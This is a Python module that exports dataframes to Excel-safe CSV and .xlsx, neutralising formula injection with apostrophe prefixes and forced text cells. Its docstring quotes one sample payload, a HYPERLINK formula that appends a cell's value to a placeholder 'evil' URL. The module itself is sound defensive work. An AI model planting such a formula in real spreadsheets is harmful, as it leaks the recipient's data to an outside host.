"""Downloads that are safe to open in Excel: no text can turn into a formula (CSV/formula injection).

Names, notes and codes in exports come from uploaded workbooks, so an evaluator's file could carry
``=HYPERLINK("https://evil/?"&A1, "klik")`` into the spreadsheet of a council member. Following OWASP, text
that starts with a formula trigger gets a leading apostrophe; numbers stay numbers, dates stay dates.
"""

from __future__ import annotations

import io
import math
import re
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

import polars as pl
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

# Characters that make Excel, LibreOffice or Google Sheets treat a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_TRIGGER_PATTERN = r"^[=+\-@\t\r]"

MAX_CELL_CHARS = 32_767  # Excel's limit; longer text makes Excel "repair" the file
MAX_COLUMN_WIDTH = 60
WIDTH_SAMPLE_ROWS = 1_000  # column widths from the first rows: exports can be long, widths need not be exact
INVALID_SHEET_CHARS = re.compile(r"[\[\]:*?/\\]")
DATE_FORMAT = "dd-mm-yyyy"
DATETIME_FORMAT = "dd-mm-yyyy hh:mm"


def neutralise_text(value: str) -> str:
    """Prefix an apostrophe when the text would start a formula; any string, even "-5", counts as text."""
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_frame(df: pl.DataFrame) -> pl.DataFrame:
    """`neutralise_text` on every text column (categoricals become text); other columns are untouched."""
    expressions = []
    for name, dtype in df.schema.items():
        if dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum):
            column = pl.col(name).cast(pl.String)
            expressions.append(
                pl.when(column.str.contains(FORMULA_TRIGGER_PATTERN))
                .then(pl.lit("'") + column)
                .otherwise(column)
                .alias(name)
            )
    return df.with_columns(expressions) if expressions else df


def frame_to_csv_bytes(df: pl.DataFrame) -> bytes:
    """CSV that Dutch Excel opens by double-click: UTF-8 with BOM, ';' between fields, decimal comma.

    Nested columns (lists, structs) are written as their text, neutralised like any other text.
    """
    safe = _flatten_nested(neutralise_frame(df))
    safe = safe.rename({name: neutralise_text(name) for name in safe.columns})
    text = safe.write_csv(
        separator=";",
        decimal_comma=True,
        include_bom=False,  # added below, so the bytes are the same whatever polars does by default
        line_terminator="\r\n",
        date_format="%Y-%m-%d",
        datetime_format="%Y-%m-%d %H:%M:%S",
        quote_style="necessary",
    )
    return b"\xef\xbb\xbf" + text.encode("utf-8")


def frame_to_xlsx_bytes(df: pl.DataFrame, sheet_name: str, *, title: str | None = None) -> bytes:
    """An .xlsx with a bold, frozen header; numbers as numbers, dates as dates, text always as text."""
    workbook = Workbook()
    sheet = workbook.worksheets[0]  # a new workbook has exactly one sheet (`active` may be None for the type)
    sheet.title = _safe_sheet_name(sheet_name)
    header_row = 1
    if title:
        _write_text(sheet.cell(row=1, column=1), title).font = Font(bold=True, size=14)
        header_row = 3  # a blank row between title and table keeps the table recognisable for Excel
    bold = Font(bold=True)
    widths = [len(name) for name in df.columns]
    for index, name in enumerate(df.columns, start=1):
        _write_text(sheet.cell(row=header_row, column=index), name).font = bold
    formats = {index: _number_format(dtype) for index, dtype in enumerate(df.dtypes, start=1)}
    for row_offset, row in enumerate(df.iter_rows(), start=1):
        for index, value in enumerate(row, start=1):
            cell = sheet.cell(row=header_row + row_offset, column=index)
            shown = _write_value(cell, value)
            number_format = formats[index]
            if number_format and cell.data_type in ("n", "d"):
                cell.number_format = number_format
            if row_offset <= WIDTH_SAMPLE_ROWS:
                widths[index - 1] = max(widths[index - 1], len(shown))
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(width + 2, MAX_COLUMN_WIDTH)
    sheet.freeze_panes = f"A{header_row + 1}"
    if df.width:
        last = f"{get_column_letter(df.width)}{header_row + df.height}"
        sheet.auto_filter.ref = f"A{header_row}:{last}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _write_value(cell: Any, value: object) -> str:
    """Write one value with the right Excel type; returns its display text for the column width."""
    if value is None:
        return ""
    if isinstance(value, bool):
        cell.value = value
        return "WAAR" if value else "ONWAAR"
    if isinstance(value, int | Decimal):
        cell.value = value
        return str(value)
    if isinstance(value, float):
        # Excel has no NaN or infinity; an empty cell is the honest rendering of "no number".
        if math.isnan(value) or math.isinf(value):
            return ""
        cell.value = value
        return f"{value:.10g}"
    if isinstance(value, datetime):
        # openpyxl refuses time zones; the local wall-clock time is what the reader expects to see.
        cell.value = value.replace(tzinfo=None)
        return "00-00-0000 00:00"
    if isinstance(value, date | time | timedelta):
        cell.value = value
        return "00-00-0000"
    _write_text(cell, value if isinstance(value, str) else str(value))
    return str(cell.value)


def _write_text(cell: Any, text: str) -> Any:
    """Text as an inline string, never a formula, whatever it starts with."""
    text = ILLEGAL_CHARACTERS_RE.sub("", neutralise_text(text))  # openpyxl would raise on these
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    cell.value = text
    # Assigning a str starting with "=" makes openpyxl store a formula; forcing the type rules that out
    # even if neutralise_text ever changes.
    cell.data_type = "s"
    return cell


def _number_format(dtype: pl.DataType) -> str | None:
    if dtype == pl.Date:
        return DATE_FORMAT
    if isinstance(dtype, pl.Datetime):
        return DATETIME_FORMAT
    return None


def _flatten_nested(df: pl.DataFrame) -> pl.DataFrame:
    nested_types = pl.List | pl.Array | pl.Struct | pl.Object
    nested = [name for name, dtype in df.schema.items() if isinstance(dtype, nested_types)]
    if not nested:
        return df
    return neutralise_frame(
        df.with_columns(
            pl.col(name).map_elements(lambda v: "" if v is None else str(v), return_dtype=pl.String)
            for name in nested
        )
    )


def _safe_sheet_name(name: str) -> str:
    """Excel sheet names: at most 31 characters, none of []:*?/\\, no apostrophe at either end."""
    cleaned = INVALID_SHEET_CHARS.sub("_", ILLEGAL_CHARACTERS_RE.sub("", str(name or ""))).strip("' ")
    return cleaned[:31] or "Blad1"
